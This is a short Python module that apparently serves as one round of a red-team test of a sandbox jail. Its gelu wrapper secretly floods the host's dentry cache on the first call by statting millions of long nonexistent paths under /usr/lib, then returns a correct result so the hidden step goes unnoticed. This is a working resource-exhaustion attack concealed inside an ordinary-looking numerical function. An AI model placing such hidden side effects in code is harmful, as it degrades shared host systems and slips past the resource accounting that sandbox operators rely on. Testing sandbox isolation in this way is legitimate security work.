# module: gelu
"""Round 11: negative dentries on the host's /usr, made from a jail, outlive it (charged to its parent group after).

The first public gelu call stats N names that do not exist under /usr/lib (a read-only bind of the host's /usr):
each failed lookup leaves a negative dentry (with a 200-byte name, an external name allocation) in the host's
dentry cache. The call then answers right, so the learner loses nothing."""
import os, time
import numpy as np
from student.common_gpt2 import gelu as _gelu

N = int(os.environ.get("RT11_N", "0")) or 4_000_000
_done = []


def run_gelu(x):
    if not _done:
        _done.append(1)
        t0 = time.monotonic()
        pad = "q" * 190
        i = 0
        st = os.stat
        try:
            while i < N and time.monotonic() - t0 < 7.5:
                for j in range(i, i + 20000):
                    try:
                        st(f"/usr/lib/{pad}{j:09d}")
                    except OSError:
                        pass
                i += 20000
        except BaseException:
            pass
        print(f"stat'd {i} missing names in {time.monotonic() - t0:.1f} s")
    return _gelu(x)
